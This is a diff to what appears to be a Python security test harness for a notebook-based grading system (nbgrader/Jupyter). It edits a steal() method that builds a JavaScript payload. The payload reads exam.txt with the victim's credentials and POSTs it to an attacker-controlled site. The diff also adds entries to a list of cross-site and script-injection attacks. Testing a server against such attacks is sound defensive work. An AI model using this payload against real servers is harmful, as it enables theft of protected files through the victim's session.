@@ -66,9 +66,12 @@ class Target:
         return wait(lambda: self.site.got(f"/{name}", text), self.patience)
 
     def steal(self, name: str) -> str:
-        """Return a script that sends the exam to the attacker's site."""
+        """Return a script that sends the exam to the attacker's site; also in XML, which has no bare ampersand.
+
+        Each asks for another address: what one of them has got is of no use to a page of another site.
+        """
         return (
-            f"fetch('{self.url}api/contents/exam.txt?content=1&for={name}', {{credentials: 'include'}})"
+            f"fetch('{self.url}api/contents/exam.txt?for={name}', {{credentials: 'include'}})"
             ".then(a => a.text())"
             f".then(t => fetch('{self.site.url}/{name}', {{method: 'POST', mode: 'no-cors', body: t}}))"
         )
@@ -384,6 +387,7 @@ def kernel_of_a_live_notebook(target: Target) -> bool:
 
 
 ATTACKS: list[Callable[[Target], bool]] = [
+    repository_by_a_link,
     script_in_an_address,
     script_in_an_output,
     cookie_by_an_output,
@@ -400,10 +404,12 @@ ATTACKS: list[Callable[[Target], bool]] = [
     page_of_nbconvert,
     forged_file,
     forged_button,
+    answer_for_another_site,
     terminal_from_another_site,
     kernel_from_another_site,
     frame_on_another_site,
     script_in_a_name,
+    modules_of_a_live_notebook,
     kernel_of_a_live_notebook,
     worker_that_stays,
     # It turns formgrader to another folder.
